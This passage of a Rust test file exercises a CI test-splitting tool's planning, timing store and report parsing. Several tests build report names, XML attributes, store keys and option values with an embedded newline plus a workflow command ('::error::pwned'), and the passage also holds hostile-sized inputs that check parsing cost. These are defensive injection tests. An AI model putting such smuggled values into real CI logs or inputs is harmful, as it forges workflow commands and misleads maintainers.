            vec![],
            Workers::Fixed(2),
            Granularity::Test,
        );
        let plan = api::plan(&req).unwrap_or_else(|e| panic!("{e}"));
        assert_eq!(plan.estimated_tests, 0, "{:?}", plan.warnings);
        assert_eq!(plan.tests, 4);
    }
}

// ---------------------------------------------------------------------------------------------------------------
// scale

/// 1,000,000 ids: 10,000 files of 100 tests in 10 classes. Half of the files have a recorded time.
fn million_ids() -> Vec<String> {
    (0..1_000_000)
        .map(|i| {
            format!(
                "tests/pkg{}/test_mod{}.py::TestC{}::test_{i}",
                i / 100_000,
                i / 100,
                (i / 10) % 10
            )
        })
        .collect()
}

#[test]
fn a_million_test_ids_through_plan_at_file_and_test_granularity() {
    let ids = million_ids();
    let timings: String = {
        let body: Vec<String> = (0..10_000)
            .step_by(2)
            .map(|f| format!("\"tests/pkg{}/test_mod{f}.py\": {}", f / 1000, 1 + f % 7))
            .collect();
        format!("{{{}}}", body.join(","))
    };
    for (g, workers, units) in [
        (
            Granularity::File,
            Workers::Auto {
                target_seconds: 600.0,
                max_workers: 256,
            },
            10_000,
        ),
        (Granularity::Test, Workers::Fixed(256), 1_000_000),
    ] {
        let req = plan_request(
            Some(ids.clone()),
            None,
            vec![src(".test_durations", timings.clone())],
            workers,
            g,
        );
        let plan = api::plan(&req).unwrap_or_else(|e| panic!("{g:?}: {e}"));
        assert_eq!(plan.tests, units, "{g:?}");
        let keys: Vec<TestKey> = ids
            .iter()
            .map(|t| TestKey::from_id(t, &[]).unit(g))
            .collect();
        plan.check_invariants(&keys)
            .unwrap_or_else(|e| panic!("{g:?}: {e}"));
        let mut seen = BTreeSet::new();
        for group in &plan.groups {
            assert!(!group.tests.is_empty());
            for t in &group.tests {
                assert!(seen.insert(t.as_str()), "{t} twice");
            }
        }
        assert_eq!(seen.len(), units, "{g:?}: every unit exactly once");
        assert!(plan.predicted_seconds.is_finite() && plan.total_seconds.is_finite());
    }
}

// ---------------------------------------------------------------------------------------------------------------
// bugs found (ignored until fixed; each names the function at fault)

/// Every message the core produces must be a single line: quoted user data must not start a new log line.
fn assert_one_line(what: &str, text: &str) {
    assert!(
        !text.chars().any(|c| c.is_ascii_control()),
        "{what} has a control character: {text:?}"
    );
}

#[test]
fn xml_error_messages_cannot_break_log_lines() {
    let kept = b"<testsuite><testcase name=\"a\" time=\"1\"/></x\n::error::pwned></testsuite>";
    let r = read_ok("junit.xml", kept);
    assert_eq!(samples(&r), pairs(&[("a", 1.0)]));
    for w in &r.warnings {
        assert_one_line("warning", w);
    }
    let err = read("junit.xml", b"<testsuite></y\r::error::pwned>")
        .map(|_| ())
        .unwrap_err();
    assert_one_line("error", &err.to_string());
}

#[test]
fn xml_character_reference_warning_cannot_break_log_lines() {
    let doc =
        b"<testsuite><testcase file=\"a.py\" name=\"t&#\n::error::x;\" time=\"1\"/></testsuite>";
    let r = read_ok("junit.xml", doc);
    assert_eq!(r.samples.len(), 1);
    for w in &r.warnings {
        assert_one_line("warning", w);
    }
}

#[test]
fn store_warnings_cannot_break_log_lines() {
    let store = "{\"format\":\"timeshard-store\",\"version\":1,\"runs\":1,\"tests\":{\
                 \"a.py::t\\n::error::pwned\":{\"samples\":[\"x\"],\"last_run\":1,\"runs_seen\":1},\
                 \"b.py::t\":{\"samples\":[1],\"last_run\":1,\"runs_seen\":1}}}";
    let (s, warnings) = Store::load(store.as_bytes()).unwrap_or_else(|e| panic!("{e}"));
    assert_eq!(s.len(), 1);
    assert_eq!(warnings.len(), 1);
    assert_one_line("warning", &warnings[0]);
}

#[test]
fn huge_job_overhead_gives_finite_plan_numbers_or_an_input_error() {
    let mut req = plan_request(
        Some(vec!["a.py".into()]),
        None,
        vec![],
        Workers::Fixed(1),
        Granularity::File,
    );
    req.options.job_overhead_seconds = 1e308;
    match api::plan(&req) {
        Err(e) => assert!(
            e.to_string().starts_with("input `job-overhead-seconds`"),
            "{e}"
        ),
        Ok(plan) => {
            for x in [plan.predicted_wall_seconds, plan.job_seconds] {
                assert!(x.is_finite(), "{x}");
            }
        }
    }
}

#[test]
fn huge_stored_sample_gives_finite_plan_numbers() {
    let store = r#"{"format":"timeshard-store","version":1,"runs":1,"tests":{
"a.py::t":{"samples":[1e308],"last_run":1,"runs_seen":1},
"b.py::t":{"samples":[1e308],"last_run":1,"runs_seen":1}}}"#;
    let req = plan_request(
        Some(vec!["a.py::t".into(), "b.py::t".into()]),
        Some(store),
        vec![],
        Workers::Fixed(1),
        Granularity::Test,
    );
    let plan = api::plan(&req).unwrap_or_else(|e| panic!("{e}"));
    assert_eq!(planned(&plan), ["a.py::t", "b.py::t"]);
    for x in [
        plan.lower_bound_seconds,
        plan.predicted_seconds,
        plan.total_seconds,
        plan.predicted_wall_seconds,
        plan.job_seconds,
    ] {
        assert!(x.is_finite(), "{x}");
    }
}

#[test]
fn json_nan_infinity_and_out_of_range_values_skip_one_entry() {
    for bad in ["NaN", "Infinity", "-Infinity", "1e400"] {
        for doc in [
            format!("{{\"a.py::bad\": {bad}, \"b.py::good\": 2}}"),
            format!("{{\"durations\":[{{\"spec\":\"a.js\",\"duration\":{bad}}},{{\"spec\":\"b.py::good\",\"duration\":2000}}]}}"),
        ] {
            let r = read("r.json", doc.as_bytes()).unwrap_or_else(|e| panic!("{doc}: {e}"));
            assert_eq!(samples(&r), pairs(&[("b.py::good", 2.0)]), "{doc}");
            assert_eq!(r.warnings.len(), 1, "{doc}: {:?}", r.warnings);
        }
    }
}

#[test]
fn a_long_id_recorded_time_is_found_at_test_granularity() {
    let id = format!("a.py::{}", "x".repeat(100_000));
    let rec = record(None, vec![src("r.json", format!("{{\"{id}\": 42}}"))]);
    let req = plan_request(
        Some(vec![id.clone(), "b.py::t".into()]),
        Some(&rec.store),
        vec![],
        Workers::Fixed(2),
        Granularity::Test,
    );
    let plan = api::plan(&req).unwrap_or_else(|e| panic!("{e}"));
    assert_eq!(planned(&plan), [id, "b.py::t".to_string()]);
    assert_eq!(
        plan.estimated_tests, 1,
        "only b.py::t is estimated: {:?}",
        plan.warnings
    );
}

/// Seconds `parse` takes on `doc`, the best of three runs (for the two cost regressions below, which compare a
/// hostile document with a benign one of the same size instead of asserting an absolute time).
fn parse_seconds_of(doc: &str) -> f64 {
    (0..3)
        .map(|_| {
            let start = std::time::Instant::now();
            let _ = read("cost.xml", doc.as_bytes());
            start.elapsed().as_secs_f64()
        })
        .fold(f64::INFINITY, f64::min)
}

/// Asserts that `hostile` costs at most 20 times `benign` (two documents of about the same size) plus 50 ms.
fn assert_linear_cost(what: &str, hostile: &str, benign: &str) {
    let (h, b) = (parse_seconds_of(hostile), parse_seconds_of(benign));
    assert!(
        h <= 20.0 * b + 0.05,
        "{what}: {h:.3} s for the hostile document, {b:.3} s for a benign one of the same size"
    );
}

#[test]
fn a_long_suite_attribute_costs_linear_time() {
    let long = "s".repeat(1 << 20);
    let cases: String = (0..1000)
        .map(|i| format!("<testcase name=\"t{i}\" time=\"1\"/>"))
        .collect();
    let node_cases: String = (0..1000)
        .map(|i| format!("<testcase classname=\"test\" name=\"t{i}\" time=\"1\"/>"))
        .collect();
    let benign = format!(
        "<testsuites><testsuite hostname=\"{long}\" file=\"a.py\">{cases}</testsuite></testsuites>"
    );
    assert_linear_cost(
        "1 MB suite `file` inherited by 1,000 cases",
        &format!("<testsuites><testsuite file=\"{long}\">{cases}</testsuite></testsuites>"),
        &benign,
    );
    assert_linear_cost(
        "1 MB suite `name` used by 1,000 node:test cases",
        &format!("<testsuites><testsuite name=\"{long}\">{node_cases}</testsuite></testsuites>"),
        &benign,
    );
}

#[test]
fn deep_go_subtest_names_cost_linear_time() {
    let deep = "/x".repeat(16_000);
    let doc = |prefix: &str| -> String {
        let cases: String = (0..100)
            .map(|i| format!("<testcase file=\"a.go\" name=\"{prefix}{deep}/{i}\" time=\"1\"/>"))
            .collect();
        format!("<testsuite name=\"s\">{cases}</testsuite>")
    };
    // `Test…` names are treated as Go subtests; `Xest…` names of the same size are not.
    assert_linear_cost(
        "100 subtest names with 16,000 `/` each",
        &doc("Test"),
        &doc("Xest"),
    );
}

/// Seconds `estimate` takes, the best of three runs.
fn estimate_seconds_of(units: &[TestKey], known: &[timeshard::report::Sample]) -> f64 {
    (0..3)
        .map(|_| {
            let start = std::time::Instant::now();
            let e = timeshard::estimate::estimate(units, &[], known, Granularity::Test);
            assert_eq!(e.seconds.len(), units.len());
            start.elapsed().as_secs_f64()
        })
        .fold(f64::INFINITY, f64::min)
}

#[test]
fn deep_known_ids_cost_linear_time_in_estimate() {
    let units: Vec<TestKey> = (0..10)
        .map(|i| TestKey::from_id(&format!("tests/t{i}.py::test_x"), &[]))
        .collect();
    let known = |sep: &str| -> Vec<timeshard::report::Sample> {
        (0..4)
            .map(|i| timeshard::report::Sample {
                key: TestKey::from_id(
                    &format!("e/{}k{i}.py::test_y", format!("d{sep}").repeat(16_000)),
                    &[],
                ),
                seconds: 1.5,
            })
            .collect()
    };
    // `d/d/d/…` has 16,000 parent directories; `d_d_d_…` of the same length has none.
    let (h, b) = (
        estimate_seconds_of(&units, &known("/")),
        estimate_seconds_of(&units, &known("_")),
    );
    assert!(
        h <= 20.0 * b + 0.05,
        "{h:.3} s for deep ids, {b:.3} s for flat ids of the same length"
    );
}

#[test]
fn a_perfect_split_is_not_below_its_lower_bound() {
    // Found by the plan_path fuzz target: two groups of exactly 1.0015 s each.
    let w = [0.0005, 0.0005, 0.0005, 1.0, 0.0005, 1.0, 0.0005, 0.0005];
    let units: Vec<TestKey> = (0..w.len())
        .map(|i| TestKey::file_only(format!("t{i}.py")))
        .collect();
    let opts = PlanOptions::new(Workers::Fixed(2), 0.0, Granularity::File);
    let plan =
        timeshard::plan::build(&units, &w, &[true; 8], &opts).unwrap_or_else(|e| panic!("{e}"));
    assert!(
        plan.predicted_seconds >= plan.lower_bound_seconds,
        "predicted {} < lower bound {}",
        plan.predicted_seconds,
        plan.lower_bound_seconds
    );
    plan.check_invariants(&units)
        .unwrap_or_else(|e| panic!("{e}"));
}

#[test]
fn a_store_id_that_normalises_to_nothing_is_skipped() {
    let store =
        r#"{"format":"timeshard-store","version":0,"tests":{".":41.75,"./":2,"a.py::t":1}}"#;
    let (s, _) = Store::load(store.as_bytes()).unwrap_or_else(|e| panic!("{e}"));
    let ids: Vec<String> = s.timings().into_iter().map(|t| t.key.id).collect();
    assert_eq!(ids, ["a.py::t"]);
    // Planning the units of the timing data must not plan an empty test id.
    let req = plan_request(
        None,
        Some(store),
        vec![],
        Workers::Fixed(2),
        Granularity::File,
    );
    let plan = api::plan(&req).unwrap_or_else(|e| panic!("{e}"));
    assert_eq!(planned(&plan), ["a.py"]);
}

#[test]
fn a_store_at_the_maximum_run_count_does_not_lose_its_tests() {
    let m = u64::MAX;
    let store = format!(
        r#"{{"format":"timeshard-store","version":1,"runs":{m},"tests":{{"a.py::t":{{"samples":[1],"last_run":{m},"runs_seen":3}}}}}}"#
    );
    let result =
        std::panic::catch_unwind(|| record(Some(&store), vec![src("r.json", r#"{"b.py::t": 2}"#)]));
    let r = result.expect("record must not panic");
    let (s, warnings) = Store::load(r.store.as_bytes()).unwrap_or_else(|e| panic!("{e}"));
    assert!(warnings.is_empty(), "{warnings:?}");
    assert!(
        s.iter().any(|t| t.key.id == "b.py::t"),
        "this run's test is kept"
    );
}

#[test]
fn what_record_writes_the_next_load_reads_back() {
    // Found by the record_path fuzz target. A JSON key `::t` has no file part; a JUnit case with `file=""` and a
    // classname that maps to nothing is the same shape.
    let r = record(None, vec![src("r.json", r#"{"::t": 1, "a.py::t": 2}"#)]);
    let (s, warnings) = Store::load(r.store.as_bytes()).unwrap_or_else(|e| panic!("{e}"));
    assert!(
        warnings.is_empty(),
        "the store just written warns on load: {warnings:?}"
    );
    assert!(s.iter().any(|t| t.key.id == "a.py::t"));
    assert_eq!(
        r.summary.recorded,
        s.len(),
        "every test recorded is in the store"
    );
}

#[test]
fn report_names_and_option_values_cannot_break_log_lines() {
    // A report's file name comes from the repository or an artifact, so a pull request chooses it.
    let name = "reports/a\n::error::pwned.xml";
    let cases: Vec<(&[u8], &str)> = vec![
        (b"", "report reports/a\u{fffd}::error::pwned.xml: the file is empty; "),
        (
            b"<testsuite><testcase name=\"t\" time=\"x\"/></testsuite>",
            "report reports/a\u{fffd}::error::pwned.xml, line 1, testsuite[1]/testcase[1]: time=\"x\" is not a number; case skipped",
        ),
        (
            b"{\"a.py\": \"x\", \"b.py\": 1}",
            "report reports/a\u{fffd}::error::pwned.xml, entry \"a.py\": value is a string (\"x\"), not a number of seconds; entry skipped",
        ),
    ];
    for (bytes, want) in cases {
        let text = match read(name, bytes) {
            Ok(r) => r.warnings.join("\n"),
            Err(e) => e.to_string(),
        };
        assert!(text.starts_with(want), "{text:?}");
        assert!(!text.contains("\n::"), "{text:?}");
    }
    let err = timeshard::plan::Workers::parse("7\n::error::pwned", 60.0, 10).unwrap_err();
    assert_eq!(
        err.to_string(),
        "input `workers`: expected a number from 1 to 256 or `auto`, got `7\u{fffd}::error::pwned`"
    );
}

#[test]
fn a_summed_time_past_the_cap_is_not_dropped_by_the_store() {
    // Found by the record_path fuzz target: the same test twice in one report (once with the workspace root), each
    // time valid on its own, summed to 1,000,000.001 s.
    let report = r#"{"a.py::t": 1000000, "/home/runner/work/r/r/a.py::t": 0.001, "b.py::t": 1}"#;
    let r = api::record(&RecordRequest {
        store: None,
        reports: vec![src("r.json", report)],
        roots: vec!["/home/runner/work/r/r".into()],
        prune_after_runs: 10,
    })
    .unwrap_or_else(|e| panic!("{e}"));
    let st = stored(&r.store);
    assert!(
        st.contains_key("a.py::t"),
        "the test's time is kept (capped): {:?}",
        r.summary.warnings
    );
    assert_eq!(r.summary.recorded, 2);
}

/// Durations far under a nanosecond (record_path fuzz target, 2026-11-27): summed in a report and rounded, such a
/// value did not survive being read back — the store changed each time it was loaded and written. Now they are 0,
/// and the store a record writes loads back to the same bytes.
#[test]
fn tiny_durations_become_zero_and_the_store_round_trips() {
    // This format gives milliseconds.
    let report = r#"{"durations": [
        {"spec": "tests/test_a.py::tiny", "duration": 8.202512253115727e-301},
        {"spec": "tests/test_a.py::tiny", "duration": 3.333210073822712e-284},
        {"spec": "tests/test_a.py::subnormal", "duration": 5e-324},
        {"spec": "tests/test_a.py::real", "duration": 250}
    ]}"#;
    let result = record(None, vec![src("timings.json", report)]);
    let stored = stored(&result.store);
    assert_eq!(stored["tests/test_a.py::tiny"], [0.0]);
    assert_eq!(stored["tests/test_a.py::subnormal"], [0.0]);
    assert_eq!(stored["tests/test_a.py::real"], [0.25]);
    let (loaded, warnings) = Store::load(result.store.as_bytes()).unwrap();
    assert!(warnings.is_empty(), "{warnings:?}");
    assert_eq!(loaded.to_json(), result.store);
}
